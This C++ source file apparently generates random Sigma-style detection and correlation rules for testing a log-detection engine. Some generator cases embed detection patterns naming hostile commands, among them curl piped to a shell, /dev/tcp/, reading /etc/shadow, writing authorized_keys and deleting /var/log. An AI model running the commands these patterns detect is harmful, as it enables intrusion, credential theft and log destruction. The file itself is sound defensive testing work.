    case 3:
      return {r.Chance(60) ? "command|re" : "command|re|i",
              Quoted(r,
                     {"curl .*\\| *(ba)?sh", "(rm|shred|truncate) .*/var/log",
                      "^/usr/bin/(vim|tee) .*authorized_keys$", "CURL", "[A-Za-z0-9+/]{20,}={0,2}"},
                     2)};
    case 4:
      return {"command|windash|contains",
              Quoted(r, {" -c ", " -d ", " /f ", " -e ", " -aes256", "-perm"}, 2)};
    case 5:
      return {
          "command|base64offset|contains",
          Quoted(r, {"curl http", "/dev/tcp/", "cat /etc/shadow", "authorized_keys", "wget"}, 2)};
    case 6:
      return {"command|contains|cased", Quoted(r, {"CURL", "curl", "ログ"}, 1)};
    case 7:
      return {"command|exists", {r.Chance(50) ? "true" : "false"}};
    case 8:
      return {"command", {"null"}};
    default:
      return {"command|contains", Quoted(r, kParts, 3)};
  }
}

ItemText AnyItem(TestRandom& r) {
  switch (r.Below(25)) {
    case 20: {
      static const std::vector<std::string> kParts = {"minute", "hour",  "day",
                                                      "week",   "month", "year"};
      const std::string& part = r.Pick(kParts);
      size_t most = part == "year" ? 2 : part == "minute" ? 60 : part == "hour" ? 24 : 12;
      std::vector<std::string> values;
      size_t n = 1 + r.Below(3);
      for (size_t i = 0; i < n; ++i) {
        values.push_back(std::to_string(part == "year" ? 2026 + r.Below(most) : 1 + r.Below(most)));
      }
      return {"timestamp|" + part, values};
    }
    case 21:
      if (r.Chance(40)) return {"tags|contains|all", AtLeastTwo(r, {"ss", "pro", "adm", "テ"})};
      return {r.Chance(80) ? "tags" : "tags|cased",
              Quoted(r, {"ssh", "prod", "admin", "テスト", "cron"}, 2)};
    case 22:
      if (r.Chance(20)) return {"process.parent", {"null"}};
      return {"process.command|contains",
              Quoted(r, {"authorized_keys", "/var/log", "| sh", "base64", "curl"}, 2)};
    case 23:
      if (r.Chance(30)) return {"ok", {r.Chance(50) ? "true" : "false"}};
      return {r.Chance(50) ? "score|gte" : "score|lt",
              {r.Pick(std::vector<std::string>{"2.5", "5", "8.5", "0"})}};
    case 24:
      return {"sessions.user", Quoted(r, kUserPatterns, 2)};
    case 0:
    case 1:
    case 2:
      return EventItem(r);
    case 3:
    case 4:
      return UserItem(r, "user");
    case 5:
    case 6:
      return AddressItem(r);
    case 7:
    case 8:
      return CommandItem(r);
    case 9:
      return {"program", Quoted(r,
                                {"sshd", "sudo", "cron", "CRON", "su", "systemd", "useradd", "s*d",
                                 "cro?", "sys*"},
                                2)};
    case 10:
      return {r.Chance(70) ? "host" : "host|contains",
              Quoted(r, {"web01", "web*", "*0?", "db-02", "サーバ?", "BASTION", "mail"}, 2)};
    case 11:
      if (r.Chance(50)) return UserItem(r, "target_user");
      return {r.Chance(50) ? "target_user|neq" : "target_user", {Quote("root")}};
    case 12: {
      static const std::vector<std::string> kRefs = {
          "user|fieldref",          "target_user|fieldref|neq",
          "user|fieldref|contains", "user|fieldref|startswith",
          "user|fieldref|endswith", "user|fieldref|cased"};
      const std::string& key = r.Pick(kRefs);
      return {key, {Quote(key.starts_with("user") ? "target_user" : "user")}};
    }
    case 13:
      if (r.Chance(50)) return {"group|contains", Quoted(r, {"adm", "wheel", "開"}, 2)};
      return {"group", Quoted(r, kGroups, 3)};
    case 14: {
      static const std::vector<std::string> kCompare = {"uid|gt", "uid|lt", "uid|gte", "uid|lte"};
      if (r.Chance(20)) return {"uid", {Quote("0")}};
      return {r.Pick(kCompare),
              {r.Pick(std::vector<std::string>{"0", "999", "1000", "1200", "1e3"})}};
    }
    case 15:
      return {r.Chance(70) ? "message|contains" : "message|startswith",
              Quoted(r, {"Failed", "for root", "invalid user", "ssh2", "Accepted", "ログ"}, 2)};
    case 16:
      return {"auth_method", Quoted(r, {"password", "publickey"}, 1)};
    case 17:
      if (r.Chance(50)) return {"pid|gt", {std::to_string(r.Below(60000))}};
      return {"src_port|lt", {std::to_string(r.Below(60000))}};
    case 18:
      return {r.Pick(std::vector<std::string>{"tty", "repeat", "pam_service"}), {"null"}};
    default:
      return {r.Pick(std::vector<std::string>{"tty|exists", "repeat|exists", "key_type|exists",
                                              "invalid_user|exists"}),
              {r.Chance(50) ? "true" : "false"}};
  }
}

const std::vector<std::string> kKeywords = {
    "Failed password",   "sudo",      "ログ",         "authorized_keys", "*error*",
    "Accepted*for root", "UFW BLOCK", "invalid user", "203.0.113.7",     "MARK",
    "session opened",    "?ailed",    "ROOT"};

// `prefix` starts the key's line ("- " in front for the first key of a map in a list);
// `indent` is the map's indentation.
void WriteItem(std::string& out, const ItemText& item, const std::string& prefix,
               const std::string& indent) {
  std::string key = item.key.starts_with("|") ? Quote(item.key) : item.key;
  if (item.values.size() == 1 && !item.key.ends_with("|all")) {
    out += prefix + key + ": " + item.values[0] + "\n";
    return;
  }
  out += prefix + key + ":\n";
  for (const std::string& v : item.values) out += indent + "    - " + v + "\n";
}

// Whether an item matches most events by itself (a negation, a null or existence test, a
// lone wildcard, a bound on a number most records have or lack).
bool Broad(const ItemText& item) {
  for (std::string_view mark : {"|neq", "|exists", "pid|", "src_port|", "|contains|all"}) {
    if (item.key.find(mark) != std::string::npos) return true;
  }
  for (const std::string& v : item.values) {
    if (v == "null" || v == "'*'" || v == "'?'" || v == "'*o*'" || v == "'o'" || v == "'A'") {
      return true;
    }
  }
  return false;
}

// A map of one to `most` items on different fields; the first one narrows the match down, as
// in real rules, the others may be anything.
void WriteMap(TestRandom& r, std::string& out, const std::string& first_prefix,
              const std::string& indent, size_t most) {
  std::set<std::string> fields;
  size_t n = 1 + r.Below(most);
  for (size_t i = 0; i < n; ++i) {
    ItemText item = AnyItem(r);
    while (i == 0 && Broad(item)) item = AnyItem(r);
    if (!fields.insert(item.key.substr(0, item.key.find('|'))).second) continue;
    WriteItem(out, item, fields.size() == 1 ? first_prefix : indent, indent);
  }
}

void WriteSelection(TestRandom& r, std::string& out, const std::string& name) {
  out += "    " + name + ":\n";
  std::string in = "        ";
  size_t shape = r.Below(10);
  if (shape < 6) {
    WriteMap(r, out, in, in, 3);
  } else if (shape < 8) {
    size_t n = 2 + r.Below(2);
    for (size_t i = 0; i < n; ++i) WriteMap(r, out, in + "- ", in + "  ", 2);
  } else if (shape < 9) {
    for (const std::string& k : Quoted(r, kKeywords, 3)) out += in + "- " + k + "\n";
  } else {
    static const std::vector<std::string> kKeys = {"|all", "|startswith", "|re", "|contains|all"};
    std::string key = r.Pick(kKeys);
    std::vector<std::string> values;
    if (key == "|startswith") {
      values = Quoted(r, {"Jan", "Dec", "<", "ログ", "web01"}, 2);
    } else if (key == "|re") {
      values = Quoted(r, {"sshd\\[\\d+\\]: Failed", "(?i)sudo: +root", "^$"}, 1);
    } else {
      values = AtLeastTwo(r, kKeywords);
    }
    WriteItem(out, {key, values}, in, in);
  }
}

// A name, or a `1 of`/`all of` pattern naming some of `names` (never `_aux`: patterns skip it).
std::string Reference(TestRandom& r, const std::vector<std::string>& names) {
  if (names.size() > 1 && r.Chance(30)) {
    const std::string& name = r.Pick(names);
    std::string quantifier = r.Pick(std::vector<std::string>{"1 of ", "all of ", "any of "});
    return quantifier + name.substr(0, 1 + r.Below(name.size())) + "*";
  }
  return r.Pick(names);
}

// What a rule looks for: its positive selections with and/or, now and then a `not` inside.
std::string Positive(TestRandom& r, const std::vector<std::string>& names, int depth) {
  if (depth == 0 || names.size() == 1 || r.Chance(40)) return Reference(r, names);
  std::string left = Positive(r, names, depth - 1);
  std::string right = Positive(r, names, depth - 1);
  if (r.Chance(50)) return "(" + left + ") or (" + right + ")";
  return "(" + left + ") and " + (r.Chance(15) ? "not " : "") + "(" + right + ")";
}

std::string LogSource(TestRandom& r) {
  switch (r.Below(20)) {
    case 0:
    case 1:
    case 2:
      return "    product: linux\n    service: sshd\n";
    case 3:
    case 4:
      return "    product: linux\n    service: sudo\n";
    case 5:
      return "    product: linux\n    service: cron\n";
    case 6:
      return "    product: linux\n    service: auth\n";
    case 7:
      return "    product: linux\n    service: syslog\n";
    case 8:
      return "    category: webserver\n";
    case 9:
      return "    category: process_creation\n    product: linux\n";
    case 10:
      return "    product: windows\n";
    default:
      return "    product: linux\n";
  }
}

struct RuleStream {
  TestRandom& r;
  std::uint64_t seed;
  std::string text;
  size_t written = 0;

  std::string Head(const std::string& name, const std::string& title) {
    char id[64];
    std::snprintf(id, sizeof id, "%08llx-0000-4000-8000-%012zu",
                  static_cast<unsigned long long>(seed & 0xffffffffu), written);
    if (written > 0) text += "---\n";
    ++written;
    return "title: " + title + " " + name + "\nid: " + id + "\nname: " + name + "\n";
  }

  void Detection(const std::string& name) {
    std::string doc = Head(name, "Generated rule");
    doc += "logsource:\n" + LogSource(r) + "detection:\n";
    std::vector<std::string> positive, filters;
    if (r.Chance(40)) {
      positive = {"selection"};
    } else {
      size_t n = 1 + r.Below(3);
      for (size_t i = 0; i < n; ++i) positive.push_back(std::string("sel_") + char('a' + i));
    }
    if (r.Chance(15)) positive.push_back("keywords");
    if (r.Chance(40)) filters.push_back("filter_a");
    if (r.Chance(15)) filters.push_back("filter_main");
    bool aux = r.Chance(10);
    for (const std::string& s : positive) WriteSelection(r, doc, s);
    for (const std::string& s : filters) WriteSelection(r, doc, s);
    if (aux) WriteSelection(r, doc, "_aux");
    auto expression = [&] {
      std::string e = Positive(r, positive, 2);
      if (filters.empty() && r.Chance(10)) e = r.Chance(70) ? "1 of them" : "all of them";
      if (!filters.empty()) e = "(" + e + ") and not " + Reference(r, filters);
      if (aux && r.Chance(70)) e = "(" + e + ") or _aux";
      return e;
    };
    if (r.Chance(10)) {
      doc += "    condition:\n        - " + expression() + "\n        - " + expression() + "\n";
    } else {
      doc += "    condition: " + expression() + "\n";
    }
    doc += "level: " + r.Pick(std::vector<std::string>{"low", "medium", "high"}) + "\n";
    text += doc;
  }

  // A base rule that matches often, for correlations to count.
  void Frequent(const std::string& name, const std::string& selection, bool sshd) {
    std::string doc = Head(name, "Generated base rule");
    doc += std::string("logsource:\n    product: linux\n") + (sshd ? "    service: sshd\n" : "");
    doc += "detection:\n    selection:\n" + selection + "    condition: selection\nlevel: low\n";
    text += doc;
  }

  void Correlation(const std::string& name, const std::string& type,
                   const std::vector<std::string>& rules, const std::vector<std::string>& group,
                   const std::string& condition, const std::string& extra) {
    std::string doc = Head(name, "Generated correlation");
    doc += "correlation:\n    type: " + type + "\n    rules:\n";
    for (const std::string& rule : rules) doc += "        - " + rule + "\n";
    if (!group.empty()) {
      doc += "    group-by:\n";
      for (const std::string& g : group) doc += "        - " + g + "\n";
    }
    static const std::vector<std::string> kSpans = {"1m", "90s", "5m", "10m", "30m", "1h"};
    doc += "    timespan: " + r.Pick(kSpans) + "\n";
    if (!condition.empty()) doc += "    condition:\n" + condition;
    doc += extra;
    if (r.Chance(20)) doc += "    generate: true\n";
    doc += "level: high\n";
    text += doc;
  }
};

}  // namespace

std::string GenerateRules(std::uint64_t seed, size_t count) {
  TestRandom r(seed);
  RuleStream s{r, seed, {}, 0};
  static const std::vector<std::string> kFailures = {
      "        event:\n            - ssh.login_failed\n            - ssh.invalid_user\n"
      "            - pam.auth_failure\n",
      "        event|endswith: _failed\n", "        message|contains: 'Failed password'\n",
      "        event: pam.auth_failure\n"};
  static const std::vector<std::string> kOthers = {
      "        event: ssh.login_ok\n",      "        event: sudo.command\n",
      "        event|startswith: 'ssh.'\n", "        src_ip|cidr: '203.0.113.0/24'\n",
      "        event: cron.command\n",      "        user: root\n"};
  std::vector<std::string> bases, correlations;
  size_t n = 0;
  while (s.written < count) {
    std::string name = "gen_" + std::to_string(++n);
    if (n % 10 != 0 || s.written + 3 > count) {
      s.Detection(name);
      bases.push_back(name);
      continue;
    }
    // A correlation over one or two base rules written for it, or over an earlier correlation.
    std::string failing = name + "_fail", other = name + "_other";
    const std::string& selection = r.Pick(kFailures);
    s.Frequent(failing, selection, r.Chance(30));
    s.Frequent(other, r.Pick(kOthers), false);
    std::string by = r.Chance(70) ? "src_ip" : "user";
    std::vector<std::string> group{by};
    if (r.Chance(10)) group = {"src_ip", "user"};
    if (r.Chance(5)) group = {};
    std::string threshold = "        gte: " + std::to_string(2 + r.Below(8)) + "\n";
    if (r.Chance(15)) threshold += "        lte: " + std::to_string(10 + r.Below(20)) + "\n";
    switch (r.Below(7)) {
      case 0:
      case 1:
        s.Correlation(name, "event_count", {failing}, group, threshold, "");
        break;
      case 2: {
        std::string field = by == "src_ip" ? "user" : "src_ip";
        // Several fields: distinct tuples are counted.
        if (r.Chance(50)) field = "\n            - " + field + "\n            - host";
        s.Correlation(
            name, "value_count", {failing}, {by},
            "        gte: " + std::to_string(2 + r.Below(4)) + "\n        field: " + field + "\n",
            "");
        break;
      }
      case 3:
        s.Correlation(name, "temporal", {failing, other}, group,
                      r.Chance(50) ? "" : "        gte: " + std::to_string(1 + r.Below(2)) + "\n",
                      "");
        break;
      case 4:
        if (r.Chance(50)) {
          // Through an alias: one group-by name for the field of each rule.
          s.Correlation(name, "temporal_ordered", {failing, other}, {"addr"}, "",
                        "    aliases:\n        addr:\n            " + failing +
                            ": src_ip\n            " + other + ": src_ip\n");
        } else {
          s.Correlation(name, "temporal_ordered", {failing, other}, group, "", "");
        }
        break;
      case 5: {
        std::string type = r.Chance(50) ? "value_sum" : "value_avg";
        s.Correlation(
            name, type, {failing, other}, group,
            "        gte: " + std::to_string(2 + r.Below(10)) + "\n        field: score\n", "");
        break;
      }
      default:
        if (!correlations.empty() && r.Chance(70)) {
          // Chained: an earlier correlation, then a base rule, in order.
          s.Correlation(name, "temporal_ordered", {r.Pick(correlations), other}, {"src_ip"}, "",
                        "");
        } else {
          s.Correlation(name, "event_count", {failing, r.Pick(bases)}, group, threshold, "");
        }
        break;
    }
    correlations.push_back(name);
  }
  return s.text;
}

}  // namespace sokuo::detect
